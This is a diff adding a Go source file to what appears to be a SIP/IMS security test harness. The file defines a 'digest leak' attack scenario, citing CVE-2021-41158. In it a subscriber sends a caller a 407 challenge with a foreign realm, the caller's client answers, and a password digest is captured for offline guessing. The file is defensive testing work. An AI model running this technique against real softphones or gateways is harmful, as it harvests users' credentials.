@@ -1,0 +1,118 @@
+package attack
+
+import (
+	"context"
+	"fmt"
+	"time"
+
+	"imsafe/proto/aka"
+	"imsafe/proto/sip"
+	"imsafe/secure"
+)
+
+// digestLeak: a called client asks the caller for his password, as if it were a network.
+func digestLeak() Attack {
+	return Attack{
+		ID: "ci.digest.leak", Number: "CI-28", Title: "a client that challenges whoever talks with it",
+		Text:     "softphones and gateways answer whoever asks, at the end of a call above all; from one response a weak password is guessed at leisure",
+		Services: []Service{Confidentiality}, Stride: Disclosing, Threats: []Threat{Disclosure}, Module: ServicesControl,
+		Source: "CVE-2021-41158; sippts leak", Access: []Access{TLS}, Digest: true,
+		Bounds: Bounds{Packets: 40, Bytes: 40_000, Conns: 1, Time: 3 * time.Second},
+		Variants: []Variant{{Position: Subscriber, Run: challengeCaller,
+			Controls: []secure.ControlID{secure.CIConfidentialityDigestRealm}}},
+	}
+}
+
+// leakRealm is not the home network's: what it protects is nobody's.
+const leakRealm = "asterisk"
+
+// challengeCaller: dave writes to mallory with a client that answers every challenge, as many do.
+func challengeCaller(ctx context.Context, f *Field, o *Outcome) error {
+	dave, err := f.DaveWithPassword(ctx)
+	if err != nil {
+		return err
+	}
+	mallory, err := f.Mallory(ctx)
+	if err != nil {
+		return err
+	}
+	text := f.token()
+	message := Request{Method: "MESSAGE", URI: mallory.IMPU, CallID: f.token(), Lines: []string{"Content-Type: text/plain"}, Body: text}
+	first, err := dave.answersAll(ctx, message)
+	if err != nil {
+		return err
+	}
+	if err := dave.Write(first); err != nil {
+		return err
+	}
+	got, err := mallory.Got(ctx, sip.MESSAGE, text)
+	if err != nil {
+		return err
+	}
+	challenge := fmt.Sprintf(`Proxy-Authenticate: Digest realm="%s",nonce="%s",algorithm=MD5,qop="auth"`, leakRealm, f.token())
+	if err := mallory.Answer(got, 407, challenge); err != nil {
+		return err
+	}
+	answer, err := dave.Await(ctx, func(m *sip.Message) bool { return isFinal(m) && string(m.Get(sip.HdrCallID)) == message.CallID })
+	if err != nil {
+		return err
+	}
+	o.Arrived("mallory challenges dave; dave's client hears %d", answer.Status())
+	credentials, asked := dave.credulous(answer, mallory.IMPU)
+	o.Peer(asked, "dave's client is asked for his password by %q: %v", leakRealm, asked)
+	if !asked {
+		o.Wire(false, "mallory gets no response")
+		return nil
+	}
+	message.Lines = append(message.Lines, "Proxy-Authorization: "+credentials)
+	second, err := dave.answersAll(ctx, message)
+	if err != nil {
+		return err
+	}
+	if err := dave.Write(second); err != nil {
+		return err
+	}
+	again, err := mallory.Got(ctx, sip.MESSAGE, text)
+	if err != nil {
+		return err
+	}
+	stolen := contains(again.Get(sip.HdrProxyAuthorization), "response=")
+	if stolen {
+		o.Users = 1
+	}
+	o.Wire(stolen, "mallory holds a response made from dave's password: %v", stolen)
+	return nil
+}
+
+// answersAll writes a request of dave's, with what his home network asks of him for each (407, RFC 3261 22.3).
+func (h *Hand) answersAll(ctx context.Context, r Request) (string, error) {
+	probe := r
+	probe.CallID, probe.URI = h.f.token(), "sip:nobody@"+h.f.Domain
+	answer, err := h.Ask(ctx, h.Text(probe))
+	if err != nil || answer.Status() != 407 {
+		return h.Text(r), err
+	}
+	c, err := sip.ParseChallenge(answer.Get(sip.HdrProxyAuthenticate))
+	if err != nil {
+		return "", fmt.Errorf("attack: %w", err)
+	}
+	algorithm, known := aka.ParseDigestAlgorithm(c.Algorithm)
+	if !known {
+		return "", fmt.Errorf("attack: a challenge for %q", c.Algorithm)
+	}
+	r.Lines = append(r.Lines, "Proxy-Authorization: "+h.credentials(&c, algorithm, h.IMPI, r.Method, r.URI, []byte(h.Password)))
+	return h.Text(r), nil
+}
+
+// credulous is the answer of a client that gives it to whoever asks; false if nobody does.
+func (h *Hand) credulous(m *sip.Message, uri string) (credentials string, asked bool) {
+	c, err := sip.ParseChallenge(m.Get(sip.HdrProxyAuthenticate))
+	if err != nil || string(c.Realm) != leakRealm {
+		return "", false
+	}
+	algorithm, known := aka.ParseDigestAlgorithm(c.Algorithm)
+	if !known {
+		return "", false
+	}
+	return h.credentials(&c, algorithm, h.IMPI, "MESSAGE", uri, []byte(h.Password)), true
+}
